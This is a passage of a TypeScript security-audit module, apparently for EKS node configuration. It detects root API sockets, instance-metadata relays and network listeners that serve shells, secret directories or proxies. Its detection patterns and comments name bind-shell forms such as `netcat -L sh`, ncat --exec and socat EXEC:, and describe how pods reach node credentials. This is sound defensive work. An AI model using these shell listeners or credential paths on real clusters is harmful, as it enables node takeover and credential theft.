                          what: `${where} sets ${at} to ${value}: a root-power API's socket at a node path the pack lets pods mount (podSpec.ts keeps only NODE_SECRETS and ROOT_SOCKETS from them), and a uid-0 pod mounting it, read-only too (connect(2) works on a read-only mount), starts privileged containers on the node; keep it at its default socket (/run/podman/podman.sock, /run/docker.sock)`,
                      },
                  ];
        }),
    ];
}

/**
 * `podman [GLOBAL OPTIONS] system service [OPTIONS] [URI]` (podman-system-service(1): "You may optionally provide an
 * endpoint for the API in URI form. For example, unix:///tmp/foobar.sock or tcp://localhost:8080"; `tcp:localhost:8888`
 * and `tcp::8888` are read alike): a tcp: endpoint is root's Podman API on the network (rootApiOnNetwork), a unix one
 * under a directory pods may write theirs. Without a URI it serves its default unix:///run/podman/podman.sock.
 */
function podmanServiceOpenings(args: readonly string[], where: string): NodeOpening[] {
    const i = args.findIndex((w, j) => w === "system" && args[j + 1] === "service");
    if (i < 0) return [];
    const endpoints = args.slice(i + 2).filter(w => /^[a-z]+:/i.test(w));
    const tcp = endpoints.find(e => !/^unix:/i.test(e));
    return [
        ...(tcp ? [rootApiOnNetwork(PODMAN_API, tcp, where)] : []),
        ...rootApiSockets(endpoints, where, "podman system service's URI"),
    ];
}

/**
 * root's Docker client configuration naming only credential helpers (amazon-ecr-credential-helper README:
 * `{"credsStore": "ecr-login"}` or credHelpers per registry) and registries without stored secrets: no credential of
 * its own, no context pointing the client at another daemon.
 */
function dockerConfigWithoutCredentials(content: string): boolean {
    try {
        const config = obj(JSON.parse(content));
        const auths = obj(config.auths);
        return (
            Object.keys(config).every(k =>
                ["credsStore", "credHelpers", "auths", "detachKeys", "psFormat", "imagesFormat"].includes(k),
            ) && Object.values(auths).every(a => Object.keys(obj(a)).length === 0)
        );
    } catch {
        return false;
    }
}

/**
 * A relay of instance metadata. `local`: only the instance's own processes connect to it (relayListensLocally,
 * configListensLocally): on a node host-network pods still do, so it is refused there, and on any other instance it
 * gives nobody more than the instance's own software has.
 */
const imdsRelay = (how: string, local = false): NodeOpening => ({
    who: "every pod that reaches the node",
    what: `user data has a root process of the node relay or route to instance metadata (${how}): pods reaching it get the node role's credentials whatever the launch template's hop limit (EKS best practices, "Restrict access to the instance profile assigned to the worker node"); only fetch metadata in the script itself (curl, wget, ec2-metadata) or block it (iptables DROP/REJECT)`,
    ...(local
        ? {}
        : {
              anyInstance: {
                  who: ON_THE_NETWORK,
                  what: `user data relays or routes instance metadata beyond the instance's loopback (${how}): ${INSTANCE_ROLE_THROUGH_IMDS}; fetch metadata in the script itself, or relay it on 127.0.0.1 only`,
              },
          }),
});

/**
 * Names the node resolves to its loopback: the loopback lines of the /etc/hosts the EKS Amazon Linux AMIs ship (the
 * RHEL family's "127.0.0.1 localhost localhost.localdomain localhost4 localhost4.localdomain4" and "::1 localhost
 * localhost.localdomain localhost6 localhost6.localdomain6"; Debian's ip6-localhost, ip6-loopback), and what
 * nss-myhostname(8) and systemd-resolved synthesize: "localhost" and "localhost.localdomain" "as well as any hostname
 * ending in .localhost or .localhost.localdomain" are 127.0.0.1 and ::1. A trailing dot is the same name.
 */
const LOOPBACK_NAME =
    /^(?:(?:[a-z0-9_-]+\.)*localhost(?:\.localdomain)?|localhost4(?:\.localdomain4)?|localhost6(?:\.localdomain6)?|ip6-localhost|ip6-loopback)\.?$/i;

/**
 * Whether a host (a name or a numeric address in any spelling, ipAddress) is the node's loopback: 127.0.0.0/8 (also
 * IPv4-mapped), ::1, a LOOPBACK_NAME.
 */
function loopbackHost(host: string): boolean {
    if (LOOPBACK_NAME.test(host)) return true;
    const address = ipAddress(host);
    if (address === undefined) return false;
    return "v4" in address ? address.v4 >>> 24 === 127 : address.v6.every((g, i) => g === (i === 7 ? 1 : 0));
}

/**
 * Whether every address a listener binds is the node's loopback (loopbackHost: 127.0.0.0/8, ::1, localhost, in any
 * spelling; a 127/8 prefix or ::1/128) or a unix socket: only
 * the node's own processes and host-network pods connect there, and a host-network pod reaches instance metadata and
 * the node's identity itself (podSpec.ts onHostNetwork, judged where the pod is). A port alone, *, 0.0.0.0, ::, a node
 * address or a value the pack cannot read is every address, which every pod reaches. No address at all is the
 * program's default, which the caller knows.
 */
function loopbackOnly(addresses: readonly string[]): boolean {
    return (
        addresses.length > 0 &&
        addresses.every(raw => {
            if (/^(unix:|\/)/.test(raw.trim())) return true;
            const host = addressHost(raw);
            const prefix = /^(.*)\/(\d+)$/.exec(host);
            if (prefix === null) return loopbackHost(host);
            const address = ipAddress(prefix[1]);
            return (
                address !== undefined &&
                loopbackHost(prefix[1]) &&
                Number(prefix[2]) >= ("v4" in address && !prefix[1].includes(":") ? 8 : 128)
            );
        })
    );
}

/**
 * Whether a destination is this host though not a loopback address: Linux connects a socket to the unspecified
 * address over lo (net/ipv4/route.c ip_route_output_key_hash_rcu: "if (!fl4->daddr) { fl4->daddr = fl4->saddr; if
 * (!fl4->daddr) fl4->daddr = fl4->saddr = htonl(INADDR_LOOPBACK);"; net/ipv6/tcp_ipv6.c: "connect() to INADDR_ANY
 * means loopback (BSD'ism)"; RFC 5735 "0.0.0.0/8 - Addresses in this block refer to source hosts on 'this'
 * network"). 0.0.0.0 in every spelling (ipAddress: inet_aton's forms, IPv4-mapped), the rest of 0.0.0.0/8 with it
 * (connect() fails there: reading it as this host fails closed), `::` in every spelling (RFC 4291 §2.5.2: ::0,
 * 0:0::0 ...), and the IPv4-mapped loopback.
 */
function connectsToThisHost(host: string): boolean {
    const address = ipAddress(host);
    if (address === undefined) return false;
    return "v4" in address ? [0, 127].includes(address.v4 >>> 24) : address.v6.every(g => g === 0);
}

/**
 * The host an address value names: quotes and socat's `ipv4@` dropped, a URL (`scheme://[USERINFO@]HOST[:PORT][/path]`:
 * RFC 3986 "authority", as Vault's `-address`, Consul's `-http-addr` and etcd's `--listen-client-urls` take) read as
 * its host (after the userinfo's last `@`: `http://127.0.0.1:80@0.0.0.0` is 0.0.0.0), then `[V6]:PORT` or `HOST:PORT`
 * as the host. Several colons unbracketed (`::1`, `fe80::1`) is a bare IPv6 address, kept whole; so is any other `@`
 * or a list, which match no host the callers accept.
 */
function addressHost(raw: string): string {
    const a = raw
        .trim()
        .replace(/^["']|["']$/g, "")
        .replace(/^ipv[46]@/i, "")
        .replace(/^[a-z][\w+.-]*:\/\/(?:[^/?#]*@)?([^/?#@]*).*$/i, "$1");
    if (a.includes("@")) return a;
    const bracketed = /^\[([^\]]+)\](?::\d+)?$/.exec(a);
    if (bracketed) return bracketed[1];
    if ((a.match(/:/g) ?? []).length > 1) return a;
    return a.includes(":") ? a.slice(0, a.indexOf(":")) : a;
}

/**
 * Whether a command line given a network connection as its standard input runs what the client sends: a shell or
 * interpreter (shell.ts INTERPRETERS; busybox's applet) without a script or command of its own (`bash`, `bash -i`,
 * `sh -s`, `python3 -`, `perl`: bash(1) "If the -s option is present, or if no arguments remain after option
 * processing, then commands are read from the standard input"; python(1), perlrun(1) alike) or with its script read
 * from standard input (/dev/stdin), interactive (-i), or a shell whose -c command line does one of these; `su` and
 * `sudo -s/-i` without a command start a shell, and so do programs that hand over one without being one: `login -f`
 * (login(1): "-f Do not perform authentication, user is preauthenticated"), script(1) without a command of its own
 * (util-linux script: "-c, --command command  Run the command rather than an interactive shell"; BSD script runs the
 * command after its file), a telnet server's login program (telnetdLogin), wrappers that run a shell when given no
 * command (shell.ts wrapperShell: `nsenter -t 1 -a`, `sudo -s`), and programs whose user opens a shell at a keystroke
 * (shellOnRequest: tmux, screen, editors and pagers). A program with its own script or command (`python3 /opt/x.py`,
 * `bash -c 'echo ok'`, `login` asking for a password) runs that: the client only feeds it data.
 */
function runsClientCommands(line: string, depth = 0): boolean {
    return simpleCommands(line).some(c => {
        const words = c.words;
        // A terminal multiplexer launching a command (shell.ts WRAPPERS screen, tmux) still gives its client a shell
        // on request (a new window): judged as the client it is, before the command it runs.
        const multiplexer = words.findIndex(w => /^(tmux|screen)$/.test(posix.basename(w)));
        if (multiplexer >= 0 && multiplexer < programIndex(words)) {
            const onRequest = shellOnRequest(posix.basename(words[multiplexer]), words.slice(multiplexer + 1));
            if (
                onRequest === true ||
                (typeof onRequest === "string" && depth < 4 && runsClientCommands(onRequest, depth + 1))
            )
                return true;
        }
        if (wrapperShell(words)) return true;
        let rest = words.slice(programIndex(words));
        if (/^(busybox|toybox)$/.test(posix.basename(rest[0] ?? ""))) rest = rest.slice(1);
        const name = posix.basename(rest[0] ?? "");
        // su and runuser's su form without a command start the user's shell (su(1), runuser(1)).
        if (name === "su" || name === "runuser") return !rest.some(w => /^(-c|--command|-u|--user)(=|$)/.test(w));
        if (name === "login") return rest.slice(1).some(w => /^-[a-zA-Z]*f/.test(w));
        if (name === "script") {
            const command = scriptCommand(rest.slice(1));
            return command === undefined || (depth < 4 && runsClientCommands(command, depth + 1));
        }
        const onRequest = shellOnRequest(name, rest.slice(1));
        if (onRequest !== undefined)
            return typeof onRequest === "boolean" ? onRequest : depth < 4 && runsClientCommands(onRequest, depth + 1);
        if (/^(in\.)?telnetd$/.test(name))
            return depth < 4 && runsClientCommands(telnetdLogin(rest.slice(1)), depth + 1);
        if (!INTERPRETERS.test(name) || /^(source|\.)$/.test(name)) return false;
        const shell = SHELLS.test(name);
        // Its script from standard input, or from a descriptor that may be the connection (shell.ts standardInput).
        const stdin = (w: string) => standardInput(w) !== false;
        let interactive = false;
        for (let j = 1; j < rest.length; j++) {
            const w = rest[j];
            // A shell's `-o option` / `+o option`, --rcfile FILE and `+x`-style options (bash(1), "OPTIONS"; set builtin).
            if (shell && /^([-+]o|--rcfile|--init-file)$/.test(w)) {
                j++;
                continue;
            }
            if (shell && /^\+/.test(w)) continue;
            if (w === "--") return interactive || rest[j + 1] === undefined || stdin(rest[j + 1]);
            if (stdin(w)) return true;
            if (shell && /^-[a-zA-Z]*c[a-zA-Z]*$/.test(w))
                return interactive || (depth < 4 && runsClientCommands(rest[j + 1] ?? "", depth + 1));
            if (shell && /^-[a-zA-Z]*s[a-zA-Z]*$/.test(w)) return true;
            // Interactive after its script or command: python -i, node -i, lua -i, php -a (perl and ruby -i edit files).
            if (/^-[a-zA-Z]*i[a-zA-Z]*$|^--interactive$/.test(w) && !/^(perl|ruby)$/.test(name)) interactive = true;
            if (name === "php" && w === "-a") interactive = true;
            // Its own program: python -c/-m, perl/ruby/node/lua -e, node --eval/--print, php -r.
            if (!shell && /^-[a-zA-Z]*[ceEmr]$|^--(eval|print)(=|$)/.test(w)) return interactive;
            if (w.startsWith("-")) continue;
            return interactive;
        }
        return true;
    });
}

/**
 * Whether a program driven from a terminal hands its user a shell on request, or the command line it runs instead;
 * undefined for other programs.
 * - tmux: a client typing into it opens a window running the default-shell (tmux(1) default-command: "The default is
 *   an empty string, which instructs tmux to create a login shell using the value of the default-shell option"; C-b c
 *   new-window), whatever the session's first command: a client of `new-session` (not -d) or `attach-session` (not
 *   -r, "the client is read-only", or -f read-only), or no command (new-session); `-c shell-command` runs that. Other
 *   commands (ls, send-keys ...) start no client.
 * - screen likewise (screen(1): "C-a c ... Create a new window with a shell"), unless it starts detached (-d -m) or
 *   only lists or sends commands (-ls, -list, -wipe, -X, -Q, -v); byobu and zellij are such multiplexers too.
 * - editors and pagers with a shell escape: vi/vim ":shell", less and more "!command" (less(1): "! shell-command
 *   Invokes a shell to run the shell-command given"), man (through its pager), emacs (M-x shell).
 */
function shellOnRequest(name: string, args: readonly string[]): boolean | string | undefined {
    if (name === "tmux") {
        const { options, operands } = getopt(args, "cfLST", [], true);
        const command = optionValues(options, "-c").at(-1);
        if (command !== undefined) return command;
        const commands = operands
            .join(" ")
            .split(/\s*\\?;\s*/)
            .map(c => c.split(/\s+/).filter(Boolean));
        return commands.some(([sub, ...flags]) => {
            if (sub === undefined || /^(new-session|new)$/.test(sub))
                return !getopt(flags, "cefFnstxy").options.some(([k]) => k === "-d");
            if (!/^(attach-session|attach|a|at|att|atta|attac)$/.test(sub)) return false;
            const attach = getopt(flags, "cft").options;
            return !attach.some(([k, v]) => k === "-r" || (k === "-f" && /read-only/.test(v)));
        });
    }
    if (name === "screen") {
        const letters = args.filter(w => /^-[a-zA-Z]+$/.test(w)).join("");
        return !(
            args.some(w => /^-(ls|list|wipe|X|Q|v|version|h|help)$/.test(w)) ||
            (letters.includes("d") && letters.includes("m"))
        );
    }
    if (/^(byobu|zellij|vi|vim|nvim|view|ex|less|more|man|emacs)$/.test(name)) return true;
    return undefined;
}

/**
 * The command script(1) runs, or undefined for an interactive shell: util-linux `-c CMD`/`--command[=]CMD` (clustered
 * `-qc CMD`; -E, -T, -B, -I, -O, -m and -o take values, -t an attached one), or BSD's `script [file [command ...]]`.
 */
function scriptCommand(args: readonly string[]): string | undefined {
    const { options, operands } = getopt(args, "cETBIOmo", [
        "command",
        "echo",
        "log-timing",
        "log-io",
        "log-in",
        "log-out",
        "logging-format",
        "output-limit",
    ]);
    const command = optionValues(options, "-c", "--command").at(-1);
    return command ?? (operands.length > 1 ? operands.slice(1).join(" ") : undefined);
}

/**
 * The program a telnet server runs on each connection's terminal: busybox telnetd `-l LOGIN` ("Exec LOGIN on
 * connect"), inetutils `-E/--exec-login STRING` ("set program to be executed instead of standard login(1)"), netkit's
 * `-L LOGINPRG`, BSD's `-p LOGINPROG` (busybox's -p is its port, a number); login(1), which asks for a password, by
 * default.
 */
function telnetdLogin(args: readonly string[]): string {
    const { options } = getopt(args, "flpbwEL", ["exec-login"]);
    const programs = options.filter(
        ([k, v]) => /^(-l|-L|-E|--exec-login)$/.test(k) || (k === "-p" && !/^\d+$/.test(v)),
    );
    return programs.at(-1)?.[1] ?? "/bin/login";
}

/**
 * A command's options as getopt(3) reads them: short letters clustered (`-fNgD 1080`), a letter of `valued` taking the
 * rest of its word or the next one; `--name=value`, or `--name value` for the long names in `longValued`. Options end
 * at `--`, or (`stop`) at the first operand, where a served command starts (ttyd, gotty); otherwise operands and
 * options mix, as GNU getopt and Python's argparse permute them.
 */
function getopt(
    words: readonly string[],
    valued: string,
    longValued: readonly string[] = [],
    stop = false,
): { options: [string, string][]; operands: string[] } {
    const options: [string, string][] = [];
    const operands: string[] = [];
    for (let i = 0; i < words.length; i++) {
        const w = words[i];
        const long = /^--([^=]+)(?:=([\s\S]*))?$/.exec(w);
        if (w === "--" || (stop && !w.startsWith("-"))) {
            operands.push(...words.slice(w === "--" ? i + 1 : i));
            break;
        } else if (long)
            options.push([`--${long[1]}`, long[2] ?? (longValued.includes(long[1]) ? (words[++i] ?? "") : "")]);
        else if (/^-./.test(w))
            for (let k = 1; k < w.length; k++) {
                if (valued.includes(w[k])) {
                    options.push([`-${w[k]}`, k + 1 < w.length ? w.slice(k + 1) : (words[++i] ?? "")]);
                    break;
                }
                options.push([`-${w[k]}`, ""]);
            }
        else operands.push(w);
    }
    return { options, operands };
}

/**
 * A Python program's words with each long option it defines spelled in full: argparse "allows long options to be
 * abbreviated to a prefix, if the abbreviation is unambiguous (the prefix matches a unique option)" (Python docs,
 * argparse, "Argument abbreviations (prefix matching)" and allow_abbrev, default True; optparse alike), `--dir /` is
 * `--directory /`, `--dir=/` is `--directory=/`. An exact name, an ambiguous or unknown prefix stays as written (argparse
 * refuses it); words after `--` are kept. `long` lists every long option of the program (a missing one can only make
 * a prefix look unique that argparse refuses as ambiguous).
 */
function argparseLongOptions(words: readonly string[], long: readonly string[]): string[] {
    const end = words.indexOf("--");
    return words.map((w, i) => {
        const m = /^--([^=]+)(=[\s\S]*)?$/.exec(w);
        if (!m || (end >= 0 && i > end) || long.includes(m[1])) return w;
        const matches = long.filter(o => o.startsWith(m[1]));
        return matches.length === 1 ? `--${matches[0]}${m[2] ?? ""}` : w;
    });
}

/** The values of the options named. */
const optionValues = (options: readonly [string, string][], ...names: string[]) =>
    options.filter(([k]) => names.includes(k)).map(([, v]) => v);

/** Short options of ncat (and the netcats) that take a value (Ncat reference guide, "Options Summary"). */
const NCAT_VALUES = "ceGgmdioxpswqTXIOPMV";
const NCAT_LONG_VALUES =
    /^--(proxy-type|proxy-auth|proxy|allow|deny|allowfile|denyfile|exec|sh-exec|lua-exec|source|source-port|output|hex-dump|append-output|wait|idle-timeout|delay|max-conns|ssl-cert|ssl-key|ssl-trustfile|ssl-ciphers|ssl-servername|ssl-alpn|proxy-dns)$/;

/**
 * An ncat (or netcat) command line read as ncat reads it: whether it listens (-l/--listen), the options' values by
 * name, and the operands left (`ncat -l [host] [port]`; the port as a number). Short options cluster (`-lvnp 4444`,
 * `-lp4444`), a value-taking letter taking the rest of the cluster or the next word. Where it misreads, it reads an
 * address too many or too few, both refused by loopbackOnly.
 */
function ncatCommand(operands: readonly string[]): { listen: boolean; values: [string, string][]; hosts: string[] } {
    const values: [string, string][] = [];
    const hosts: string[] = [];
    let listen = false;
    for (let i = 0; i < operands.length; i++) {
        const w = operands[i];
        const long = /^(--[a-z-]+)(?:=(.*))?$/.exec(w);
        if (long) {
            if (long[1] === "--listen") listen = true;
            if (long[2] !== undefined) values.push([long[1], long[2]]);
            else if (NCAT_LONG_VALUES.test(long[1])) values.push([long[1], operands[++i] ?? ""]);
            else values.push([long[1], ""]);
        } else if (/^-[a-zA-Z0-9]/.test(w)) {
            for (let k = 1; k < w.length; k++) {
                if (w[k] === "l") listen = true;
                if (NCAT_VALUES.includes(w[k])) {
                    values.push([`-${w[k]}`, k + 1 < w.length ? w.slice(k + 1) : (operands[++i] ?? "")]);
                    break;
                }
                values.push([`-${w[k]}`, ""]);
            }
        } else if (!/^\d+$/.test(w)) hosts.push(w);
    }
    return { listen, values, hosts };
}

/**
 * Whether a listener's clients are the node's own only: it binds loopback or a unix socket (loopbackOnly), or admits
 * loopback clients only (ncat --allow, socat range=, tinyproxy Allow, xinetd only_from, exports' clients, rsyncd
 * hosts allow, Dante's client rules).
 */
const localOnly = (binds: readonly string[], allowed: readonly string[] = []) =>
    loopbackOnly(binds) || loopbackOnly(allowed);

/** socat's listening address types (socat(1), "ADDRESS TYPES"): TCP-LISTEN, TCP-L, UDP-RECVFROM, OPENSSL-LISTEN ... */
const SOCAT_LISTENER =
    /^(tcp|udp|udplite|sctp|dccp|openssl|ssl|openssl-dtls|dtls)[46]?-(listen|l|recvfrom|recv)(:|,|$)/i;

/**
 * Whether a command naming instance metadata relays it to the instance's own processes only (socat(1) "ADDRESS
 * TYPES", "ADDRESS OPTIONS"; Ncat guide): socat whose other address is a listener bound to loopback or admitting
 * loopback clients (bind=, range=: localOnly) or the command's own standard input and output (`-`, STDIO); ncat
 * listening the same way, or connecting to instance metadata without a command. Anything else (a connection out, a
 * program, iptables DNAT, systemd-socket-proxyd ...) may hand instance metadata to the network.
 */
function relayListensLocally(name: string, operands: readonly string[]): boolean {
    if (name === "socat") {
        const addresses = operands.filter(w => !w.startsWith("-") || w === "-").slice(-2);
        return (
            addresses.length === 2 &&
            addresses.some(a => namesImds(a)) &&
            addresses.every(a => {
                if (namesImds(a)) return true;
                if (/^(-|stdio|stdin|stdout)(,|$)/i.test(a)) return true;
                if (!SOCAT_LISTENER.test(a)) return false;
                const options = a.split(",").slice(1);
                const option = (key: string) =>
                    options.flatMap(o => (o.toLowerCase().startsWith(`${key}=`) ? [o.slice(key.length + 1)] : []));
                return localOnly(option("bind"), option("range"));
            })
        );
    }
    if (/^(ncat|nc|netcat)$/.test(name)) {
        const { listen, values, hosts } = ncatCommand(operands);
        if (listen)
            return localOnly(
                hosts,
                values.filter(([k]) => k === "--allow").flatMap(([, v]) => v.split(",")),
            );
        return (
            hosts.length > 0 &&
            hosts.every(h => namesImds(h)) &&
            !values.some(([k]) => /^(-e|--exec|-c|--sh-exec|--lua-exec)$/.test(k))
        );
    }
    return false;
}

/** An interface a server binds by name (ttyd -i, Dante's internal:): `lo` is loopback, any other every pod's. */
const interfaceAddress = (name: string) => (name === "lo" ? "127.0.0.1" : name);

/**
 * A network server a root process of the node runs: what it serves each client (a command line the connection
 * drives, a directory's files, or a forward proxy), the addresses it listens on ([]: its default, every address)
 * and the clients it admits ([]: every client).
 */
interface Listener {
    /** The server as a finding names it. */
    server: string;
    binds: readonly string[];
    allowed?: readonly string[];
    /** The port it listens on when its reader knows it and `binds` do not say it (servedForwarders' listens). */
    port?: string;
    /**
     * `files` undefined: a directory the pack cannot know (a `cd "$X"` before it); `unread`: a program the pack does
     * not read, given an address beyond loopback (unreadListeners).
     */
    serves: { shell: string } | { files: string | undefined } | { proxy: true } | { unread: string };
}

/**
 * What servers on the node's network open, each judged by one loopback test (localOnly): only the node's own
 * processes and host-network pods reach a listener on loopback, and a host-network pod reaches instance metadata
 * and the node's identity itself (podSpec.ts onHostNetwork, judged where the pod is). Beyond it every pod does (the
 * EKS cluster security group allows traffic between nodes and pods; VPC CNI pods are in the VPC), so:
 * - a shell (a command line that runs what the client sends, runsClientCommands) runs it on the node, as root
 *   unless set otherwise, with the node's network (instance metadata: the node role);
 * - files of a directory at, above or inside the node's secrets (podSpec.ts holdsNodeSecrets: the kubelet's client
 *   key, every pod's projected token) hand them to whoever connects, who then acts as the node or as every
 *   ServiceAccount there; other directories are what the server is for;
 * - a forward proxy (SOCKS or HTTP) relays whatever host a client names from the node's network namespace, one hop
 *   from instance metadata, so the hop limit of 1 protects nothing (as forwardProxies).
 */
function listenerOpenings(
    listeners: readonly Listener[],
    how: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): NodeOpening[] {
    return listeners.flatMap((listener): NodeOpening[] => {
        const { server, binds, allowed = [], serves } = listener;
        // A program run on each connection that is a network client relays it (servedForwarders): a forwarder held
        // for the join as every other one is, wherever the listener is.
        const relays = forwarderMarks(servedForwarders(listener, fileText, view), how);
        // On loopback it is held for the join with the user data's forwarders (loopbackJoin).
        if (localOnly(binds, allowed)) return [heldForJoin({ listener, how }), ...relays];
        const on = `${server} on ${binds.length === 0 ? "every address" : binds.join(", ")}${allowed.length > 0 ? ` for ${allowed.join(", ")}` : ""}`;
        if ("shell" in serves) {
            if (runsClientCommands(serves.shell)) return [shellServed(how, on), ...relays];
            // A program a super-server runs on each connection that serves files over it: judged as that file server.
            const served = stdioFileServer(serves.shell, fileText, view);
            return [
                ...relays,
                ...(served === false ? [] : listenerOpenings([{ ...listener, serves: { files: served } }], how)),
            ];
        }
        if ("proxy" in serves)
            return [
                imdsRelay(`${how}: ${on}, a forward proxy to whatever host a client names; listen on 127.0.0.1 only`),
            ];
        if ("unread" in serves)
            return [
                {
                    who: "every pod that reaches the node",
                    what: `user data has root run ${serves.unread}, a program the pack does not read, listening beyond loopback (${how}: ${on}): what it serves (a shell, the node's files and every pod's token, a proxy to instance metadata) is unknown, and every pod reaches the node's addresses. Bind it to 127.0.0.1, or run a server the pack reads (README, "node user data")`,
                },
            ];
        const dir = serves.files;
        return dir === undefined || holdsNodeSecrets(dir)
            ? [
                  {
                      who: "every pod that reaches the node",
                      what: `user data serves ${dir ?? "a directory the pack cannot know"} to the node's network (${how}: ${on}): it ${dir === undefined ? "may hold" : "holds"} the node's credentials or every pod's token (podSpec.ts NODE_SECRETS: the kubelet's client key, projected ServiceAccount tokens), and whoever connects reads them and acts as the node or as every ServiceAccount there; every pod reaches the node's addresses. Serve a directory outside them, or to 127.0.0.1 only`,
                  },
              ]
            : [];
    });
}

/**
 * The directory a command line run with a connection as its standard input and output (a super-server's program:
 * tcpsvd/udpsvd, tcpserver, inetd, xinetd, systemd-socket-activate --inetd, socat EXEC:, ncat -e) serves as a file
 * server of the connection, undefined when it cannot know it; false when it is none the pack reads so:
 * - busybox ftpd "[-wvS] [-a USER] [-t N] [-T N] [DIR]" ("Anonymous FTP server. Client can use DIR", "-w Allow
 *   upload"; the busybox tcpsvd example `tcpsvd -vE 0.0.0.0 21 ftpd /files`): DIR, else its working directory;
 * - busybox httpd -i ("Inetd mode"): its home as busyboxHttpdConfig reads it (its P: proxies are servedRelays');
 * - busybox tftpd "[-crl] [-u USER] [DIR]" and tftp-hpa's in.tftpd `-s DIR` (tftpd(8) "--secure, -s"): DIR.
 * Its working directory is the super-server's, which the pack does not follow: unknown.
 */
function stdioFileServer(
    line: string,
    fileText?: (path: string) => string | undefined,
    view: ScriptView = NO_VIEW,
): string | undefined | false {
    for (const command of lineCommands(line).map(appletWords)) {
        const name = posix.basename(command[0] ?? "");
        const args = command.slice(1);
        if (name === "ftpd") return servedDirectory(getopt(args, "atT", []).operands[0], undefined);
        if (name === "httpd" && getopt(args, "cpuhrmde", []).options.some(([k]) => k === "-i"))
            return busyboxHttpdConfig(args, undefined, fileText, view).home;
        if (name === "tftpd") return servedDirectory(getopt(args, "uU", []).operands[0], undefined);
        if (name === "in.tftpd") {
            const { operands } = getopt(args, "acuUtTmBbPrRLpv", ["address", "user", "umask", "timeout"]);
            return servedDirectory(operands.at(-1), undefined);
        }
    }
    return false;
}

/** The short options of pen(1) and balance(1) that take a value. */
const BALANCER_VALUES = { pen: "bcetxjuFlpwCToEKGALS", balance: "bBtTcS" };

/**
 * pen's control interface (pen(1) "-C port|/path/to/socket": penctl(1) connects to it and sets any server's address
 * and port): whoever reaches it points pen anywhere, the node's loopback too, as an open proxy does. balance's own
 * relays are commandForwarders'.
 */
function penListeners(args: readonly string[]): Listener[] {
    return optionValues(getopt(args, BALANCER_VALUES.pen, []).options, "-C")
        .filter(control => !control.startsWith("/"))
        .map(control => ({
            server: `pen -C ${control} (its control interface)`,
            binds: [/^\d+$/.test(control) ? `0.0.0.0:${control}` : control],
            serves: { proxy: true as const },
        }));
}

/**
 * toybox netcat's served command (toybox netcat.c help: "netcat [-46ELUlt] [-u] [-wpq #] [-s addr] {IPADDR PORTNUM|-f
 * FILENAME|COMMAND...}", "-L Listen and background each incoming connection (server mode)", "-l Listen for one
 * incoming connection, then exit", "-s Local source address"; its options end at the first operand, its doc's shell
 * server is `netcat -L sh`): listening with operands, it runs them on each connection, bound to -s (every address
 * without). -L is toybox's alone among the node's netcats (Ncat and OpenBSD nc have none), so it is read so under any
 * name; -l with operands only under the toybox or busybox name (`lOnly`; busybox's -e/-i values skipped alike).
 */
function toyboxNetcatListeners(args: readonly string[], lOnly: boolean): Listener[] {
    const binds: string[] = [];
    let mode = "";
    let port: string | undefined;
    let i = 0;
    for (; i < args.length && /^-./.test(args[i]) && args[i] !== "--"; i++)
        for (let k = 1; k < args[i].length; k++) {
            const letter = args[i][k];
            if (letter === "l" || letter === "L") mode += letter;
            if ("wWpqsfei".includes(letter)) {
                const value = k + 1 < args[i].length ? args[i].slice(k + 1) : (args[++i] ?? "");
                if (letter === "s") binds.push(value);
                if (letter === "p") port = value;
                break;
            }
        }
    const command = args.slice(args[i] === "--" ? i + 1 : i);
    const served = lOnly ? mode.includes("l") && !mode.includes("L") : mode.includes("L");
    return served && command.length > 0
        ? [
              {
                  server: `netcat -${mode} running ${command.join(" ")}`,
                  binds,
                  port,
                  serves: { shell: commandLine(command) },
              },
          ]
        : [];
}

/** ncat/nc listening (ncatCommand): --exec/-e, --sh-exec/-c and --lua-exec commands, and --proxy-type http. */
function ncatListeners(name: string, args: readonly string[]): Listener[] {
    const toybox = toyboxNetcatListeners(args, false);
    if (toybox.length > 0) return toybox;
    const { listen, values, hosts } = ncatCommand(args);
    if (!listen) return [];
    const allowed = values.filter(([k]) => k === "--allow").flatMap(([, v]) => v.split(","));
    const at = { binds: hosts, allowed, port: ncatPort(args) };
    return [
        ...values
            .filter(([k]) => /^(-e|--exec|-c|--sh-exec|--lua-exec)$/.test(k))
            .map(([k, v]) => ({
                server: `${name} ${k} ${v}`,
                ...at,
                serves: { shell: k === "--lua-exec" ? `lua ${v}` : v },
            })),
        ...(values.some(([k, v]) => k === "--proxy-type" && v === "http")
            ? [{ server: "ncat as an HTTP proxy server", ...at, serves: { proxy: true as const } }]
            : []),
    ];
}

/** socat: a listening address (bind= its address, range= its clients) and an EXEC:, SYSTEM: or SHELL: one. */
function socatListeners(args: readonly string[]): Listener[] {
    const addresses = args.filter(w => !w.startsWith("-") || w === "-").slice(-2);
    const listener = addresses.find(a => SOCAT_LISTENER.test(a));
    if (!listener) return [];
    const [head, ...options] = listener.split(",");
    const option = (key: string) =>
        options.flatMap(o => (o.toLowerCase().startsWith(`${key}=`) ? [o.slice(key.length + 1)] : []));
    return addresses.flatMap(a => {
        const exec = /^(exec|system|shell):(.*)$/i.exec(a);
        return exec
            ? [
                  {
                      server: `socat ${listener} ${exec[0]}`,
                      binds: option("bind"),
                      allowed: option("range"),
                      port: head.split(":")[1],
                      serves: { shell: exec[2].split(/(?<!\\),/)[0] },
                  },
              ]
            : [];
    });
}

/** systemd-socket-activate --inetd -l ADDR DAEMON: the connection is the daemon's standard input. */
function socketActivateListeners(args: readonly string[]): Listener[] {
    if (!args.includes("--inetd")) return [];
    const listens: string[] = [];
    let i = 0;
    for (; i < args.length && args[i].startsWith("-"); i++) {
        const m = /^(?:-l|--listen)(?:=(.*))?$/.exec(args[i]);
        if (m) listens.push(m[1] ?? args[++i] ?? "");
        else if (/^(-E|--setenv|--fdname)$/.test(args[i])) i++;
    }
    const daemon = args.slice(i);
    return [
        {
            server: `systemd-socket-activate --inetd running ${daemon.join(" ")}`,
            binds: listens,
            serves: { shell: commandLine(daemon) },
        },
    ];
}

/** A telnet server: its login program (telnetdLogin) on `-b ADDR[:PORT]`, every address by default; -i/-w: inetd's. */
function telnetdListeners(name: string, args: readonly string[]): Listener[] {
    const { options } = getopt(args, "flpbwEL", ["exec-login"]);
    if (options.some(([k]) => k === "-i" || k === "-w")) return [];
    const login = telnetdLogin(args);
    return [{ server: `${name} running ${login}`, binds: optionValues(options, "-b"), serves: { shell: login } }];
}

/**
 * ttyd serves its command in a browser terminal (tsl0922/ttyd man page: "ttyd [options] <command> [<arguments...>]";
